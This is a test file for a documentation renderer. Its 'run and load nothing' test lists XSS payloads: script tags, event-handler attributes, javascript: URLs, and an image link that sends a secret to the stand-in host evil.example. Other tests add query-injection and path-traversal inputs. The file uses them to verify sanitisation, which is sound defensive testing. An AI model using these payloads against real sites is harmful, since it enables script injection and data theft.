import { expect, it } from 'vitest'
import { describeOnStore } from '../../../tests/stores.ts'
import { writePages } from '../../features/docs/pages.ts'
import type { Page } from '../../site/pages/page.ts'
import { updateSettings } from '../../features/projects/projects.ts'
import type { Store } from '../../store/database.ts'
import { createDashboardWorld, type DashboardWorld } from '../../../tests/worlds/dashboard-world.ts'

describeOnStore('documentation pages', (store) => {
  it('render a page to anyone, with its title once, its anchors and its labels', async () => {
    const { get, project } = await docs(
      store(),
      {
        'guides/install.md':
          '---\ntitle: Install\n---\n# Install\n\nHello **you**.\n\n## First *step*\n\n## First step\n',
      },
      [
        { headings: ['First step'], anchor: 'own-anchor', text: '' },
        { headings: ['First step'], anchor: 'other', text: '' },
      ],
    )
    const answer = await get(`/docs/${project.domain}/guides/install`, '')
    const page = await answer.text()
    expect(answer.status).toBe(200)
    expect(page.match(/<h1/g)).toHaveLength(1)
    expect(page).toContain('Hello <strong>you</strong>')
    expect(page).toMatch(/<h2 id="own-anchor">First <em>step<\/em><a class="permalink" href="#own-anchor"/)
    expect(page).toContain('<h2 id="other">')
    expect(page).toContain('aria-current="page"')
    expect(page).toContain('v2')
  })

  it('keep links to pages here, let links to the web out, and make text of all others', async () => {
    const { get, project } = await docs(store(), {
      'guides/install.md':
        '[a](../start.md#top) [b](/start) [c](start) [d](https://example.com/) [e](nope.md) [f](javascript:alert(1)) [g](#here) [h](//evil.example) [i](data:text/html,x)',
      'start.md': '# Start',
    })
    const page = await (await get(`/docs/${project.domain}/guides/install`, '')).text()
    const hrefs = [...(/<article.*<\/article>/s.exec(page)?.[0] ?? '').matchAll(/href="([^"]*)"/g)].map(
      ([, href]) => href,
    )
    const base = `/docs/${project.domain}`
    expect(hrefs).toEqual([`${base}/start#top`, `${base}/start`, 'https://example.com/', '#here'])
  })

  it('run and load nothing that a page brings', async () => {
    const attacks = [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      '<iframe src="https://evil.example">',
      '![x](https://evil.example/?q=SECRET)',
      '[x](javascript:alert(1))',
      '<a href="javascript:alert(1)">x</a>',
      '[x]: javascript:alert(1)\n\n[x]',
      '<style>@import "https://evil.example"</style>',
      '<Card title="<img src=x onerror=alert(1)>" href="javascript:alert(1)">a</Card>',
      '`<script>`',
      '\\<script>alert(1)</script>',
      '&lt;script&gt;',
      '<scr<script>ipt>alert(1)</script>',
      '<form action="https://evil.example"><input name=a>',
      '<base href="https://evil.example">',
      '<div style="position:fixed" class="top" id="content" onclick="x()">d</div>',
      '<!--><script>alert(1)</script>',
      '{`<script>`}',
      '```html"onload=x\n<script>\n```',
    ]
    for (const ending of ['md', 'mdx']) {
      const { get, project } = await docs(store(), { [`a.${ending}`]: attacks.join('\n\n') })
      const page = await (await get(`/docs/${project.domain}/a`, '')).text()
      const article = /<article.*<\/article>/s.exec(page)?.[0] ?? ''
      expect(article).toContain('<h1>')
      // A title may contain the name of an attribute, which is dangerous only inside of a tag.
      expect(article.match(/<[^>]*>/g)?.join('\n')).not.toMatch(
        /<(?:script|img|svg|iframe|style|form|base|object|link|meta)\b|\son\w+=|javascript:|style=|id="content"/i,
      )
      expect([...article.matchAll(/(?:src|href)="([^"]*)"/g)].map(([, value]) => value)).toEqual([])
    }
  })

  it('lead from the root to the first page, and list all of them', async () => {
    const { get, project } = await docs(store(), { 'b.md': 'B', 'a.md': 'A', 'c.md': '# Own\n\nText' })
    const base = `/docs/${project.domain}`
    // A page that begins with a heading has that one alone.
    const own = await (await get(`${base}/c`, '')).text()
    expect(own.match(/<h1[^>]*>[^<]*/g)).toEqual([expect.stringMatching(/>Own$/)])
    expect((await get(base, '')).headers.get('location')).toBe(`${base}/`)
    expect((await get(`${base}/`, '')).headers.get('location')).toBe(`${base}/a`)
    const list = await (await get(`${base}/?all=1`, '')).text()
    expect(list).toContain(`href="${base}/a"`)
    expect(list).toContain(`href="${base}/b"`)
  })

  it('follow the pages as they change', async () => {
    const own = await docs(store(), { 'a.md': 'Before' })
    const path = `/docs/${own.project.domain}/a`
    expect(await (await own.get(path, '')).text()).toContain('Before')
    await write(store(), own, { 'a.md': 'Afterwards' })
    expect(await (await own.get(path, '')).text()).toContain('Afterwards')
  })

  it('suggest similar pages when there is no such page', async () => {
    const asked: string[] = []
    const recorded: string[] = []
    const own = await createDashboardWorld(store(), {
      searchDocs: (_project, query) => {
        asked.push(query)
        const hit = { url: '/a', title: '<b>A</b>', heading: undefined, anchor: 'x', content: 'text' }
        return Promise.resolve({ hits: [hit], confidence: 0.5 })
      },
      searchLog: { flush: () => Promise.resolve(), record: ({ query }) => recorded.push(query) },
    })
    await write(store(), own, { 'a.md': 'A' })
    const answer = await own.get(`/docs/${own.project.domain}/guides/old-name`, '')
    expect(answer.status).toBe(404)
    expect(await answer.text()).toContain(
      `<a href="/docs/${own.project.domain}/a#x">&lt;b&gt;A&lt;/b&gt;</a>`,
    )
    expect(asked).toEqual(['guides old name'])
    const found = await (await own.get(`/docs/${own.project.domain}/?q=%22%3E%3Cscript%3E`, '')).text()
    expect(found).not.toContain('"><script>')
    const typed = await (
      await own.get(`/docs/${own.project.domain}/?q=%22%3E%3Cscript%3E&typing=1`, '')
    ).text()
    expect(typed).not.toMatch(/<script>|<html/)
    // A search is recorded, what shows while one types is none, and looking for what comes near a wrong address is none.
    expect(recorded).toEqual(['"><script>'])
    for (const path of [
      'none/x',
      `${own.project.domain}/%00`,
      `${own.project.domain}/%FF`,
      `${own.project.domain}//a/../../x`,
    ])
      expect((await own.get(`/docs/${path}`, '')).status).toBeGreaterThanOrEqual(400)
  })

  it('have the language that the site names, and else read from right to left by their title', async () => {
    const { get, project } = await docs(store(), { 'دليل.md': 'نص', 'guide.md': 'Text' })
    const beginning = async (path: string): Promise<string | undefined> =>
      /<html[^>]*>/.exec(await (await get(`/docs/${project.domain}/${path}`, '')).text())?.[0]
    expect(await beginning(encodeURIComponent('دليل'))).toContain('dir="rtl"')
    expect(await beginning('guide')).toBe('<html lang="en" >')
    await store().transaction((tx) =>
      tx.updateTable('projects').set({ language: 'ar' }).where('id', '=', project.id).execute(),
    )
    expect(await beginning('guide')).toBe('<html lang="ar" dir="rtl">')
  })

  it('show a page that takes too long as its source', async () => {
    const { get, project } = await docs(store(), { 'a.md': `<script>${'x'.repeat(600_000)}` })
    const page = await (await get(`/docs/${project.domain}/a`, '')).text()
    expect(page).toContain('<pre class="source">&lt;script&gt;xxx')
  })
})

async function docs(
  store: Store,
  files: Record<string, string>,
  sections: Page['sections'] = [],
): Promise<DashboardWorld> {
  const world = await createDashboardWorld(store)
  await write(store, world, files, sections)
  return world
}

async function write(
  store: Store,
  { project }: DashboardWorld,
  files: Record<string, string>,
  sections: Page['sections'] = [],
): Promise<void> {
  // These tests check what is shown; open-docs.test.ts checks to whom.
  await store.transaction((tx) => updateSettings(tx, project.id, () => ({ visibility: 'public' })))
  const pages = Object.entries(files).map(([path, content]) => {
    const url = `/${path.replace(/\.mdx?$/, '')}`
    const title = (url.split('/').at(-1) ?? '').replace(/^./, (letter) => letter.toUpperCase())
    const page: Page = {
      path,
      url,
      title,
      description: undefined,
      language: undefined,
      version: 'v2',
      groups: [],
      sections,
    }
    return { page, oid: 'x', included: {}, content }
  })
  await store.transaction((tx) => writePages(tx, project.id, pages, []))
}
